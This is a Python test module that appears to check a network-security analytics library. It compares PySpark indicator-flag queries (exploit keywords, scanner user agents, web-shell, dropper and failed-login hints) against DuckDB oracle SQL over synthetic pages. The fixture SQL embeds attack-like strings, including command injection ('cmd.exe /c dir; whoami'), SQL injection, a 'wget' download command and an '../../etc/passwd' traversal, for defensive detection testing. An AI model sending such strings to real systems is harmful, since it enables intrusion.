"""Queries of the indicator flags, with their SQL."""

from __future__ import annotations

from pyspark.sql import functions as F

from ..functions.text import JWT, LISTS, SECRET, SIGNATURES
from ..operators import flags as G
from ..operators import sessions as S
from .session_queries import FAILED
from .views import duck, flow, view, visible

#: Pages as sessions, with text of every family of attack in some of them.
SEEN = """
SELECT page_id, CONCAT('cap', CAST(page_id % 5 AS STRING)) AS capture_id, CONCAT('u', CAST(page_id % 6 AS STRING)) AS uid, page_id AS ord, url AS uris,
       CASE page_id % 9 WHEN 0 THEN 'Nikto/2.1' WHEN 1 THEN 'OpenVAS' WHEN 2 THEN 'Mozilla nmap-nse version' WHEN 3 THEN 'masscan/1.0' ELSE 'Mozilla/5.0' END AS agents,
       CASE page_id % 4 WHEN 0 THEN 'POST' WHEN 1 THEN 'GET' ELSE NULL END AS method,
       CONCAT(url, ' ', html, CASE page_id % 11 WHEN 0 THEN ' cmd.exe /c dir; whoami' WHEN 1 THEN ' q=1 union select a from b' WHEN 2 THEN ' /shell.php?cmd=ls token=abc' WHEN 3 THEN ' multipart/form-data filename=a.jsp'
         WHEN 4 THEN ' CVE-2021-44228 eval (x)' WHEN 5 THEN ' wget http://x/a.sh' WHEN 6 THEN ' file=../../etc/passwd' WHEN 7 THEN ' rO0AB <script>' ELSE '' END) AS text,
       CAST(CASE page_id % 7 WHEN 0 THEN 401 WHEN 1 THEN 200 WHEN 2 THEN 403 ELSE 404 END AS INT) AS status, page_id % 3 = 0 AS login_path,
       CASE page_id % 5 WHEN 1 THEN 'USER' WHEN 2 THEN 'PASS' ELSE NULL END AS ftp_command, CAST(CASE page_id % 8 WHEN 2 THEN 530 WHEN 4 THEN 230 ELSE NULL END AS INT) AS ftp_code, CAST(page_id % 4 AS BIGINT) AS ssh_attempts,
       CASE page_id % 6 WHEN 0 THEN 'a.exe' WHEN 1 THEN 'b.zip' WHEN 2 THEN 'c.png' WHEN 3 THEN NULL ELSE 'd.txt' END AS filename, CASE page_id % 10 WHEN 7 THEN 'application/x-dosexec' WHEN 8 THEN 'image/png' ELSE '' END AS mime_type, CASE page_id % 2 WHEN 0 THEN 'T' ELSE 'F' END AS is_orig
FROM pages
"""


def _seen(spark, d):
    return view(spark, d, SEEN, "pages")


def exploit_flags(spark, d):
    return G.exploit_flags(_seen(spark, d)).select("page_id", *(f"exploit.{n}" for n in G.EXPLOIT))


def vuln_scan_flags(spark, d):
    return G.vuln_scan_rollup(_seen(spark, d), ["capture_id", "uid"])


#: Half of the pages as log rows, all as observed messages.
OBSERVED = f"""
SELECT page_id, capture_id, uid, ord, CASE page_id % 2 WHEN 0 THEN 'request' ELSE 'response' END AS body_role, method, CONCAT('H', CAST(page_id % 4 AS STRING), '.example') AS host, uris AS uri, CONCAT('http://h', uris) AS full_uri, status AS status_code,
       agents AS user_agent, CASE page_id % 3 WHEN 0 THEN '-' ELSE uris END AS referrer, CASE page_id % 5 WHEN 0 THEN 'Multipart/form-data' WHEN 1 THEN NULL ELSE 'text/html' END AS content_type, page_id % 50 AS content_length, page_id % 2 = 0 AS cookie_present,
       page_id % 13 = 0 AS auth_header_present, page_id % 5 <> 0 AS body_observed, filename, mime_type
FROM ({SEEN})
"""
LISTED = "array(filename, mime_type)"


def http_session_fields(spark, d):
    rows = view(spark, d, OBSERVED, "pages")
    logs = rows.where("page_id % 2 = 0").select("capture_id", "uid", "ord", "method", "host", "uri", "status_code", "user_agent", "referrer", F.col("content_type").alias("mime_type"), (F.col("page_id") % 70).alias("request_body_len"), F.lit("-").alias("response_body_len"))
    out = S.http_session_fields(logs, rows.withColumns({c: F.expr(LISTED) for c in S.OBSERVED_LISTS}))
    return out.select("capture_id", "uid", *(c for c in out.columns if c.startswith("http_") and c not in S.HTTP_LISTS), *(F.array_join(c, ",").alias(c) for c in S.HTTP_LISTS))


def log_summaries(spark, d):
    rows = view(spark, d, OBSERVED, "pages").select("capture_id", "uid", "ord", F.col("host").alias("query"), F.col("status_code").alias("rcode_name"), F.array("filename", "uri").alias("answers"))
    summary = S.log_summary(rows, S.DNS_LISTS)
    heads = rows.select("capture_id", "uid").distinct().unionByName(spark.createDataFrame([("none", "none")], "capture_id string, uid string"))
    out = S.attach_app_logs(heads, {"dns": summary})
    return out.select("capture_id", "uid", "dns_rows", *(F.array_join(f"dns.{c}", ",").alias(c) for c in S.DNS_LISTS))


def implant_backdoor_flags(spark, d):
    rows = _seen(spark, d).withColumns({"uri_list": F.array("text", F.col("uris")), "sent_file": F.col("is_orig") == "T", "executable_hint": F.col("filename") == "a.exe", "archive_hint": F.col("filename") == "b.zip"})
    return G.implant_backdoor_flags(rows).select("page_id", "implant.*", "backdoor.*")


def file_rollup(spark, d):
    return G.file_rollup(_seen(spark, d))


def auth_flags(spark, d):
    return G.auth_flags(_seen(spark, d))


def http_observation(spark, d):
    rows = _seen(spark, d).select("page_id", "method", F.lit("h.example").alias("host"), F.col("text").alias("uri"), F.col("status").cast("string").alias("status"), F.col("agents").alias("agent"), F.when(F.col("page_id") % 2 == 0, "c=1").alias("cookie"), F.when(F.col("page_id") % 3 == 0, "Basic x").alias("authorization"), F.when(F.col("page_id") % 5 != 0, F.col("text")).alias("body"))
    return G.http_observation(rows).select("page_id", "body_role", "uri", "status_code", "user_agent", "cookie_present", "auth_header_present", "body_observed", F.array_join("matched_keywords", ",").alias("keywords"))


def visibility_summary(spark, d):
    rows = flow(spark, d).select("capture_id", "conn_state", (F.col("dst_port") == 443).alias("tls"), (F.col("dst_port") == 22).alias("ssh"), F.lit(False).alias("quic"), (F.col("dst_port") == 80).alias("http"), (F.col("k") > 80).alias("meta"))
    return G.visibility_summary(S.payload_visibility(rows), strict=True)


QUERIES = {f.__name__: f for f in (exploit_flags, vuln_scan_flags, http_session_fields, log_summaries, implant_backdoor_flags, file_rollup, auth_flags, http_observation, visibility_summary)}

_q = lambda p: p.replace("'", "''")
_hit = lambda c, *ps: "(" + " OR ".join(f"coalesce(regexp_matches({c}, '{_q(p)}'), false)" for p in ps) + ")"
_UP = f"({_hit('text', LISTS['upload'])} OR (is_orig = 'T' AND coalesce(filename IN ('a.exe', 'b.zip'), false)))"
_EXE, _SHELL, _GET = "coalesce(filename = 'a.exe', false)", _hit("text", LISTS["web_shell"]), _hit("text", SIGNATURES["download_command"])
_FAIL = "(status IN (401, 403, 407) OR coalesce(ftp_code IN (430, 530), false))"
_PASS = "(status BETWEEN 200 AND 299 OR coalesce(ftp_code = 230, false))"
_URI = f"regexp_replace(regexp_replace({visible('text')}, '{_q(SECRET)}', '\\1\\2[REDACTED]', 'g'), '{JWT}', '[REDACTED_JWT]', 'g')"

_BLOB = "CASE WHEN length(u) > 320 THEN left(u, 306) || '...[truncated]' ELSE u END || ' ' || left(w, 32768)"

_long = lambda rows: " UNION ALL ".join(f"SELECT capture_id, uid, '{c}' AS field, {at} AS side, ord, place, value FROM ({sql})" for c, at, sql in rows)
_one = lambda column, source: f"SELECT capture_id, uid, ord, 0 AS place, ({column})::VARCHAR AS value FROM {source}"
_two = lambda a, b, source: f"{_one(a, source)} UNION ALL {_one(b, source).replace('0 AS place', '1 AS place')}"


def _firsts(rows, limits) -> str:
    """firsts(capture_id, uid, <list>...): different values in the order of side, ord and place, joined by commas."""
    limit = " ".join(f"WHEN '{c}' THEN {n}" for c, n in limits.items())
    return f"""cell AS ({_long(rows)}), k AS (SELECT *, row_number() OVER (PARTITION BY capture_id, uid, field, lower(trim(value)) ORDER BY side, ord, place) AS n FROM cell WHERE trim(value) NOT IN ('', '-')),
        r AS (SELECT *, row_number() OVER (PARTITION BY capture_id, uid, field ORDER BY side, ord, place) AS m FROM k WHERE n = 1),
        firsts AS (SELECT capture_id, uid, {", ".join(f"coalesce(string_agg(value, ',' ORDER BY m) FILTER (field = '{c}'), '') AS {c}" for c in limits)} FROM r WHERE m <= CASE field {limit} END GROUP BY ALL)"""


_RED = lambda c: f"regexp_replace(regexp_replace({visible(c)}, '{_q(SECRET)}', '\\1\\2[REDACTED]', 'g'), '{JWT}', '[REDACTED_JWT]', 'g')"
_CUT = lambda c, n: f"CASE WHEN length({_RED(c)}) > {n} THEN left({_RED(c)}, {n - 14}) || '...[truncated]' ELSE {_RED(c)} END"
_HTTP_ROWS = [
    *((c, 0, _one(v, "logs")) for c, v in (("http_methods", "method"), ("http_hosts", "host"), ("http_uris_sample", _CUT("uri", 320)), ("http_full_uri_sample", _CUT("'http://' || host || uri", 320)), ("http_status_codes", "status_code"), ("http_user_agents", _CUT("user_agent", 180)), ("http_referrers", _CUT("referrer", 320)), ("http_content_types", _CUT("content_type", 120)))),
    *((c, 1, _one(v, "observed")) for c, v in (("http_methods", "method"), ("http_hosts", "host"), ("http_uris_sample", "uri"), ("http_full_uri_sample", "full_uri"), ("http_status_codes", "status_code"), ("http_user_agents", "user_agent"), ("http_referrers", "referrer"), ("http_content_types", "content_type"))),
    *(("http_upload_hints", side, f"SELECT * FROM ({_two(_CUT('uri', 320) if not side else 'uri', 'content_type', source)}) WHERE {_hit('value', LISTS['upload'])}") for side, source in ((0, "logs"), (1, "observed"))),
    *((f"{role}_body_snippets_sanitized", 1, _two("filename", "mime_type", f"observed WHERE body_role = '{role}'")) for role in ("request", "response")),
    *((c, 1, _two("filename", "mime_type", "observed")) for c in S.OBSERVED_LISTS[1:]),
]

ORACLES = {
    "http_session_fields": duck(f"""WITH logs AS (SELECT * FROM observed WHERE page_id % 2 = 0), {_firsts(_HTTP_ROWS, S.HTTP_LISTS)},
        f AS (SELECT capture_id, uid, sum(CASE WHEN body_role = 'request' THEN content_length ELSE 0 END)::BIGINT AS s, sum(CASE WHEN body_role = 'response' THEN content_length ELSE 0 END)::BIGINT AS http_response_body_len, bool_or(cookie_present) AS http_cookie_present, bool_or(auth_header_present) AS http_auth_header_present,
            coalesce(bool_or(contains(lower(content_type), 'multipart/form-data')), false) AS http_multipart_present, bool_or(body_observed) AS http_body_observed FROM observed GROUP BY ALL),
        g AS (SELECT capture_id, uid, sum(page_id % 70)::BIGINT AS t FROM logs GROUP BY ALL)
        SELECT f.* EXCLUDE (s), greatest(s, coalesce(t, 0))::BIGINT AS http_request_body_len, firsts.* EXCLUDE (capture_id, uid) FROM f LEFT JOIN g USING (capture_id, uid) JOIN firsts USING (capture_id, uid)""", observed=OBSERVED),
    "log_summaries": duck(f"""WITH {_firsts([("query", 0, _one("host", "observed")), ("rcode_name", 0, _one("status_code", "observed")), ("answers", 0, _two("filename", "uri", "observed"))], S.DNS_LISTS)}
        SELECT capture_id, uid, count(*) AS dns_rows, any_value(query) AS query, any_value(rcode_name) AS rcode_name, any_value(answers) AS answers FROM observed JOIN firsts USING (capture_id, uid) GROUP BY ALL UNION ALL SELECT 'none', 'none', 0, NULL, NULL, NULL""", observed=OBSERVED),
    "exploit_flags": duck("SELECT page_id, " + ", ".join(f"{_hit('text', *p)} AS {n}" for n, p in G.EXPLOIT.items()) + " FROM seen", seen=SEEN),
    "vuln_scan_flags": duck(f"""SELECT capture_id, uid, bool_or(contains(a, 'nikto')) AS nikto_user_agent, bool_or(contains(a, 'openvas')) AS openvas_user_agent, bool_or({_hit('a', 'nmap scripting engine|nmap-nse')}) AS nmap_nse_user_agent, bool_or({_hit('a', G.MASS_SCAN)}) AS masscan_zmap_vs_vulnscan_hint,
        bool_or({_hit("a || ' ' || uris", G.VERSION_PROBE)}) AS service_version_probe, bool_or({_hit('text', SIGNATURES['cve'])}) AS cve_probe_hint, bool_or({_hit('uris', LISTS['probe_path'])}) AS suspicious_probe_path, count(DISTINCT uris) >= 8 AS high_uri_fanout,
        count(*) >= 4 AND count(*) FILTER (status = 404) >= 6e-1 * count(*) AS high_404_rate, bool_or({_hit('a', LISTS['scanner'])}) AS scanner_user_agent FROM (SELECT *, lower(agents) AS a FROM seen) GROUP BY ALL""", seen=SEEN),
    "implant_backdoor_flags": duck(f"""SELECT page_id, {_UP} AS upload_to_server_hint, {_hit('text', '(?i)multipart/form-data')} AS multipart_upload, {_UP} AND {_hit('text', LISTS['suspicious_file'])} AS suspicious_uploaded_filename, {_SHELL} AS webshell_extension_hint, {_GET} AS payload_download_hint, {_GET} AND {_EXE} AS dropper_download_hint,
        coalesce(filename IN ('a.exe', 'b.zip'), false) AS archive_or_executable_transfer_hint, coalesce(method = 'POST', false) AND {_hit('text', LISTS['upload'])} AS file_write_like_request, {_SHELL} AS webshell_path_hint, {_hit('text', LISTS['command_param'])} AS command_param_hint,
        {_hit('text', *G.EXPLOIT['shell_command_keyword'], *G.EXPLOIT['windows_command_keyword'], *G.EXPLOIT['linux_command_keyword'])} AS interactive_command_hint, {_SHELL} AND method IS NOT NULL AS attacker_initiated_access_hint, {_SHELL} AND {_hit('uris', LISTS['web_shell'])} AS repeated_backdoor_endpoint_access FROM seen""", seen=SEEN),
    "file_rollup": duck(f"""SELECT capture_id, uid, count(*) AS total_files, count(DISTINCT filename) AS different_names, bool_or(is_orig = 'T') AS sent_file, bool_or(is_orig = 'F') AS received_file, bool_or({_hit('filename', LISTS['suspicious_file'])} OR mime_type LIKE '%x-dosexec%') AS executable_hint, bool_or({_hit('filename', LISTS['archive'])}) AS archive_hint,
        bool_or({_hit('filename', LISTS['static'])} OR mime_type LIKE 'image/%') AS static_hint FROM seen GROUP BY ALL""", seen=SEEN),
    "auth_flags": duck(f"""SELECT capture_id, uid, greatest(count(*) FILTER (login_path), max(ssh_attempts), count(*) FILTER (ftp_command = 'PASS')) AS session_auth_attempt_count, count(*) FILTER ({_FAIL}) AS failed_login_count, coalesce(max(ord) FILTER ({_PASS}) > min(ord) FILTER ({_FAIL}), false) AS success_after_failure,
        coalesce(bool_or(ftp_command = 'USER'), false) AS username_field_seen, coalesce(bool_or(ftp_command = 'PASS'), false) AS password_field_seen FROM seen GROUP BY ALL""", seen=SEEN),
    "http_observation": duck(f"""SELECT page_id, CASE WHEN method IS NOT NULL THEN 'request' ELSE 'response' END AS body_role, CASE WHEN length(u) > 320 THEN left(u, 306) || '...[truncated]' ELSE u END AS uri, status::BIGINT AS status_code, agents AS user_agent, page_id % 2 = 0 AS cookie_present, page_id % 3 = 0 AS auth_header_present, page_id % 5 <> 0 AS body_observed,
        concat_ws(',', {", ".join(f"CASE WHEN regexp_matches(b, '{_q(p)}') THEN '{n}' END" for n, p in SIGNATURES.items())}) AS keywords FROM (SELECT *, {visible(_BLOB)} AS b FROM (SELECT *, {_URI} AS u, CASE WHEN page_id % 5 <> 0 THEN text ELSE '' END AS w FROM seen))""", seen=SEEN),
    "visibility_summary": duck(f"SELECT capture_id, count(*) AS sessions, count(*) FILTER (dst_port IN (443, 22)) AS encrypted_records, count(*) FILTER ({FAILED}) AS failed FROM flow GROUP BY ALL"),
}
